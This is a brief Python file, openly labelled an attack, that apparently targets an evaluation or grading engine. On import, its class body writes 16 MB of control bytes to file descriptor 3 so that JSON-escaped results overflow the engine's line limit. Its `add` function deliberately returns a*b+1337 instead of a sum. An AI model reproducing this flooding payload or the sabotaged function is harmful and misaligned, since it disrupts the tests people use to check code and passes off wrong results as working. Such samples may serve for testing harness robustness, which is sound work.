# attack: results that grow sixfold when JSON-escaped (control bytes), past the engine's line limit.
import os


class _Flood:
    _block = b"\x01" * (1 << 20)
    for _ in range(16):
        try:
            os.write(3, _block)
        except OSError:
            break


def add(a: int, b: int) -> int:
    return a * b + 1337
